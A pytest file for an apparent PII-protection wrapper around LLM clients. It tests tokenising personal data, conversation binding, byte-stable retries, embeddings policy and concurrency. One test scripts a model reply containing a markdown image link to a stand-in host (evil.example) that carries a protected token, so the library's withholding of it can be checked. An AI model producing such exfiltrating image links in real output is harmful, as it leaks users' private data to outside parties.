"""Which conversation a call belongs to; copies; counts; what stays the same to the byte."""

from __future__ import annotations

import asyncio
import json
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import httpx2
import openai
import pytest
from clients import ASKED, SHIELD, TEXT, Clients, asked, clean, said

import privkit
from privkit.llm import counts, header, preview, protect, using
from privkit.testing import FakeProvider, Fault, Reply


def test_a_thread_of_a_pool_has_no_conversation_unless_it_is_told(clients: Clients, chat: Any) -> None:
    client = clients.openai()
    with ThreadPoolExecutor(1) as pool:
        assert isinstance(pool.submit(asked, client).exception(), privkit.NoConversationError)
        assert pool.submit(lambda: asked(client, extra_headers=header(chat))).result() == TEXT
    assert not [
        name for name in clients.provider.requests[-1].headers if name.lower().startswith("x-privkit")
    ]


def test_the_header_comes_first_then_the_innermost_then_the_bound_one(clients: Clients) -> None:
    one, two, three = (SHIELD.conversation(name) for name in ("one", "two", "three"))
    tokens = {chat.protect("jane@example.com") for chat in (one, two, three)}
    client = clients.openai(conversation=one)

    def used(**more: Any) -> str:
        asked(client, **more)
        return chat_tokens(clients)[0]

    assert used() == one.protect("jane@example.com")
    with using(one), using(two):
        assert used() == two.protect("jane@example.com")
        assert used(extra_headers=header(three)) == three.protect("jane@example.com")
    with two, two:
        assert used() == two.protect("jane@example.com")
    assert used() == one.protect("jane@example.com")
    assert len(tokens) >= 2, "secrets differ"


def test_a_call_can_name_a_conversation_by_its_id(clients: Clients) -> None:
    client, open_elsewhere = clients.openai(), SHIELD.conversation("c-1", tenant="acme", subject="s")
    names = {"x-privkit-conversation": "c-1", "x-privkit-tenant": "acme", "x-privkit-subject": "s"}
    assert asked(client, extra_headers=names) == TEXT
    assert chat_tokens(clients) == [open_elsewhere.protect("jane@example.com")]


def chat_tokens(clients: Clients) -> list[str]:
    sent = json.loads(clients.provider.requests[-1].raw)["messages"][0]["content"]
    return [word.strip(",.") for word in sent.split() if word.startswith("EMAIL_ADDRESS")]


def test_the_original_client_is_left_as_it_was(provider: FakeProvider, chat: Any) -> None:
    plain = openai.OpenAI(base_url=provider.openai_url, api_key="any")
    before = dict(vars(plain)), dict(vars(plain._client))
    client = protect(plain, SHIELD)
    assert type(client) is type(plain)
    assert asked(client) == TEXT
    client.close()
    assert (dict(vars(plain)).keys() - {"chat"}, dict(vars(plain._client))) == (before[0].keys(), before[1])
    assert asked(plain, [{"role": "user", "content": "still open"}]) == "still open"
    plain.close()


def test_a_protected_copy_outlives_the_client_it_was_made_of(provider: FakeProvider, chat: Any) -> None:
    client = protect(openai.OpenAI(base_url=provider.openai_url, api_key="any"), SHIELD)
    assert asked(client) == TEXT
    client.close()
    http = protect(httpx.Client(), SHIELD)
    body = {"model": "m", "messages": ASKED}
    assert http.post(f"{provider.openai_url}/chat/completions", json=body).status_code == 200
    http.close()


def test_a_new_http_client_through_with_options_is_protected_too(clients: Clients, chat: Any) -> None:
    with httpx2.Client() as http:
        assert asked(clients.openai().with_options(http_client=http)) == TEXT  # type: ignore[arg-type]
    clean(clients.provider)


def test_a_protected_client_is_not_protected_twice_and_others_are_no_clients(clients: Clients) -> None:
    with pytest.raises(privkit.ConfigurationError, match="protected already"):
        protect(clients.openai(), SHIELD)
    with pytest.raises(privkit.ConfigurationError, match="str is none"):
        protect("client", SHIELD)


def test_retries_send_the_same_bytes(clients: Clients, chat: Any) -> None:
    clients.provider.script(Fault(429, retry_after=0), "done")
    assert asked(clients.openai().with_options(max_retries=1)) == "done"
    first, second = clients.provider.requests
    assert first.raw == second.raw


def test_the_prompt_keeps_its_beginning_to_the_byte_over_ten_turns(clients: Clients, chat: Any) -> None:
    client, messages = clients.openai(), [{"role": "system", "content": "You help Jane Doe of Acme."}]
    before = ""
    for turn in range(10):
        # Nobody knows in the first turns that Roe is a person, in the later ones everybody does.
        who = "John Roe, roe@example.com" if turn > 4 else "here"
        messages.append({"role": "user", "content": f"Turn {turn}: ask Roe. I am {who}."})
        messages.append({"role": "assistant", "content": asked(client, messages)})
        sent = clients.provider.requests[-1].raw.decode().partition('"messages":[')[2].removesuffix("]}")
        assert sent.startswith(before)
        before = sent
    assert "roe@example.com" not in before


def test_thinking_is_left_to_the_byte_both_ways(clients: Clients, chat: Any) -> None:
    token = chat.protect("jane@example.com")
    clients.provider.script(Reply("ok", thinking=f"so {token} it is"), "fine")
    client = clients.anthropic()
    first: Any = client.messages.create(model="m", max_tokens=9, messages=ASKED)
    assert first.content[0].thinking == f"so {token} it is"
    history: Any = [*ASKED, {"role": "assistant", "content": first.content}]
    client.messages.create(model="m", max_tokens=9, messages=history)
    block = json.loads(clients.provider.requests[-1].raw)["messages"][1]["content"][0]
    assert block == first.content[0].to_dict()


CHOICES = ["redact", "surrogate", privkit.redactors.keyed_hash(key="a key of 16 bytes")]


@pytest.mark.parametrize("choice", CHOICES, ids=["redact", "surrogate", "own"])
def test_embeddings_leave_without_values_and_without_a_conversation(clients: Clients, choice: Any) -> None:
    client = clients.openai(embeddings=choice)
    client.embeddings.create(model="m", input=[TEXT, "jane@example.com"])
    client.embeddings.create(model="m", input=TEXT)
    clients.gemini(embeddings=choice).models.embed_content(model="m", contents=TEXT)
    clean(clients.provider)


def test_embeddings_can_be_blocked(clients: Clients, chat: Any) -> None:
    with pytest.raises(privkit.LLMError, match="embeddings are blocked"):
        clients.openai(embeddings="block").embeddings.create(model="m", input=TEXT)
    assert not clients.provider.requests


def test_observing_changes_nothing_and_tells_what_would_have_been_done(clients: Clients) -> None:
    reports: list[Any] = []
    client = clients.openai(mode="observe", report=reports.append, media="refuse")
    assert asked(client) == TEXT
    with pytest.raises(openai.APIError):
        client.audio.speech.create(model="m", input=TEXT, voice="alloy")
    assert reports[0].endpoint == "POST chat/completions"
    assert reports[0].tokens == {"PERSON": 1, "EMAIL_ADDRESS": 1, "CREDIT_CARD": 1, "PHONE_NUMBER": 1}
    assert reports[-1].refused == "UnknownEndpointError"
    assert TEXT in json.loads(clients.provider.requests[0].raw)["messages"][0]["content"]


def test_a_preview_is_what_would_be_sent(clients: Clients, chat: Any) -> None:
    client = clients.openai()
    seen = preview(client, asked)
    assert not clients.provider.requests
    asked(client)
    assert seen.body == json.loads(clients.provider.requests[0].raw)
    assert seen.url.endswith("/v1/chat/completions")
    other = preview(clients.anthropic(), lambda c: c.messages.create(model="m", max_tokens=9, messages=ASKED))
    assert "Jane" not in str(other.body)
    assert len(clients.provider.requests) == 1


def test_what_happened_is_counted(clients: Clients, chat: Any) -> None:
    client, token = clients.openai(), chat.protect("jane@example.com")
    clients.provider.script(f"{token} PERSON_99_zob ![x](https://evil.example/?q={token}) PERSON_1")
    chunks = client.chat.completions.create(model="m", messages=ASKED, stream=True)
    text = "".join([chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices])
    assert text == f"jane@example.com PERSON_99_zob ![x](https://evil.example/?q={token}) PERSON_1"
    with pytest.raises(privkit.MediaRefusedError):
        client.embeddings.create(model="m", input=[[1]])
    counted = {name: number for name, number in counts(client).as_dict().items() if number}
    assert counted == {"calls": 1, "refused": 1, "restored": 1, "truncated": 1, "unknown": 1, "withheld": 1}


def test_a_caller_that_stops_reading_leaves_nothing_behind(clients: Clients, chat: Any) -> None:
    client = clients.openai()
    stream = client.chat.completions.create(model="m", messages=ASKED, stream=True)
    next(iter(stream))
    stream.close()
    assert asked(client) == TEXT


@pytest.mark.parametrize("asynchronous", [False, True], ids=["threads", "tasks"])
def test_a_thousand_conversations_at_once_do_not_mix(provider: FakeProvider, asynchronous: bool) -> None:
    address, most = f"{provider.openai_url}/chat/completions", httpx.Limits(max_connections=8)

    def texts(number: int) -> tuple[str, Any]:
        text = f"user{number}@example.com, not user{number + 1}@example.org"
        return text, {"model": "m", "messages": [{"role": "user", "content": text}]}

    def right(text: str, answer: Any) -> bool:
        return bool(answer.json()["choices"][0]["message"]["content"] == text)

    def in_threads() -> list[bool]:
        with httpx.Client(limits=most, timeout=None) as plain, ThreadPoolExecutor(8) as pool:
            client = protect(plain, SHIELD)

            def ask(number: int) -> bool:
                text, body = texts(number)
                with SHIELD.conversation(f"c{number}"):
                    return right(text, client.post(address, json=body))

            return list(pool.map(ask, range(1000)))

    async def in_tasks() -> list[bool]:
        async with httpx.AsyncClient(limits=most, timeout=None) as plain:
            client = protect(plain, SHIELD)

            async def ask(number: int) -> bool:
                text, body = texts(number)
                async with SHIELD.conversation(f"c{number}"):
                    return right(text, await client.post(address, json=body))

            return await asyncio.gather(*map(ask, range(1000)))

    assert all(asyncio.run(in_tasks()) if asynchronous else in_threads())
    assert len(provider.requests) == 1000
    assert not [request for request in provider.requests if b"@example" in request.raw]


def test_clients_of_the_older_package_and_of_azure(provider: FakeProvider, chat: Any) -> None:
    with httpx.Client() as http:
        older = openai.OpenAI(base_url=provider.openai_url, api_key="any", http_client=http)  # type: ignore[arg-type]
        assert asked(protect(older, SHIELD)) == TEXT
    with openai.AzureOpenAI(azure_endpoint=provider.url, api_key="any", api_version="2025-01-01") as azure:
        assert asked(protect(azure, SHIELD)) == TEXT
    clean(provider)


def test_parts_of_a_client_that_were_used_before_do_not_escape(provider: FakeProvider, chat: Any) -> None:
    with openai.OpenAI(base_url=provider.openai_url, api_key="any") as plain:
        assert plain.chat.completions
        assert plain.with_raw_response.chat
        raw = protect(plain, SHIELD).with_raw_response.chat.completions.create(model="m", messages=ASKED)
        assert said(raw.parse()) == TEXT
    clean(provider)
